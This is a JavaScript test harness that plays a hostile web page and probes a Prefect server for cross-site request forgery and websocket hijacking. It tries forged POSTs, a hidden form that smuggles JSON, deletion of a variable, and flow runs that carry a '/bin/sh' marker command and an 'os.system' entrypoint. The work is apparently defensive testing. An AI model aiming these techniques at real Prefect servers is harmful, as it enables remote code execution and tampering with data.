// What a hostile web page tries against a Prefect server of ours. Each attempt returns what the page could read, or null.
async (api) => {
  const found = {};
  const attempt = async (name, act) => {
    try { found[name] = await act(); } catch (error) { found[name] = null; }
  };
  const readable = async (response) =>
    response.type === "opaque" || !response.ok ? null : `${response.status} ${(await response.text()).slice(0, 80)}`;
  const post = (path, body, type, more = {}) =>
    fetch(api + path, { method: "POST", body: typeof body === "string" ? body : JSON.stringify(body), headers: type ? { "Content-Type": type } : {}, ...more });
  const types = ["application/json", "text/plain", "application/x-www-form-urlencoded"];
  const run = { name: "attack", job_variables: { command: "/bin/sh -c 'touch MARK'" }, state: { type: "SCHEDULED" } };

  let deployment = "00000000-0000-0000-0000-000000000000";
  for (const type of types) {
    await attempt(`read deployments, ${type}`, async () => {
      const response = await post("/deployments/filter", {}, type);
      const text = await response.text();
      const list = response.ok ? JSON.parse(text) : [];
      if (list.length) deployment = list[0].id;
      return response.ok ? text.slice(0, 80) : null;
    });
    await attempt(`create a run, ${type}`, async () => readable(await post(`/deployments/${deployment}/create_flow_run`, run, type)));
    await attempt(`create a flow, ${type}`, async () => readable(await post("/flows/", { name: "attack" }, type)));
    await attempt(`create a variable, ${type}`, async () => readable(await post("/variables/", { name: "attack", value: "1" }, type)));
    await attempt(`create a flow without an answer, ${type}`, async () =>
      readable(await post("/flows/", { name: "attack" }, type, { mode: "no-cors" })));
  }
  await attempt("create a flow from bytes without a type", async () =>
    readable(await fetch(api + "/flows/", { method: "POST", mode: "no-cors", body: new Blob([JSON.stringify({ name: "attack" })]) })));
  await attempt("create a flow by a beacon", async () => {
    navigator.sendBeacon(api + "/flows/", new Blob([JSON.stringify({ name: "attack" })], { type: "text/plain" }));
    return null;
  });
  await attempt("create a deployment", async () => {
    const flow = await (await post("/flows/", { name: "attack" }, "application/json")).json();
    return readable(await post("/deployments/", { name: "attack", flow_id: flow.id, entrypoint: "os.system" }, "application/json"));
  });
  await attempt("read with GET", async () => readable(await fetch(api + "/variables/name/victim")));
  await attempt("read with HEAD", async () => {
    const response = await fetch(api + "/variables/name/victim", { method: "HEAD" });
    return response.ok ? String(response.status) : null;
  });
  await attempt("change a variable", async () =>
    readable(await fetch(api + "/variables/name/victim", { method: "PATCH", body: '{"value":"changed"}', headers: { "Content-Type": "application/json" } })));
  await attempt("delete a variable", async () => readable(await fetch(api + "/variables/name/victim", { method: "DELETE" })));
  await attempt("read with OPTIONS", async () => readable(await fetch(api + "/flows/", { method: "OPTIONS" })));
  await attempt("the settings of the page", async () => readable(await fetch(api.replace(/\/api$/, "/ui-settings"))));
  await attempt("a script of the page", () => new Promise((done) => {
    const script = document.createElement("script");
    script.src = api.replace(/\/api$/, "/ui-settings");
    script.onload = () => done("loaded");
    script.onerror = () => done(null);
    document.head.append(script);
  }));

  const form = document.createElement("form");
  const frame = document.createElement("iframe");
  frame.name = form.target = "hidden";
  Object.assign(form, { action: api + "/flows/", method: "POST", enctype: "text/plain" });
  const field = document.createElement("input");
  Object.assign(field, { name: '{"name":"attack","x":"', value: '"}' });
  form.append(field);
  document.body.append(frame, form);
  form.submit();

  for (const [path, message] of [
    ["/events/in", { id: crypto.randomUUID?.() ?? "11111111-1111-1111-1111-111111111111", occurred: new Date().toISOString(), event: "attack", resource: { "prefect.resource.id": "attack" }, payload: {} }],
    ["/events/out", { type: "filter", filter: {} }],
    ["/logs/out", { type: "filter", filter: {} }],
    ["/work_pools/lyceum/workers/connect", {}],
    ["/task_runs/subscriptions/scheduled", { type: "subscribe", keys: [] }],
  ])
    for (const protocols of [[], ["prefect"]])
      await attempt(`websocket ${path} [${protocols}]`, () => new Promise((done) => {
        const socket = new WebSocket(api.replace(/^http/, "ws") + path, protocols);
        let opened = null;
        const timer = setTimeout(() => done(opened), 3000);
        const give_up = () => { clearTimeout(timer); done(null); };
        socket.onopen = () => {
          opened = "opened";
          if (protocols.length) socket.send(JSON.stringify({ type: "auth", token: null }));
          socket.send(JSON.stringify(message));
        };
        socket.onerror = give_up;
        socket.onclose = give_up;
      }));
  await new Promise((done) => setTimeout(done, 1000));
  return found;
}
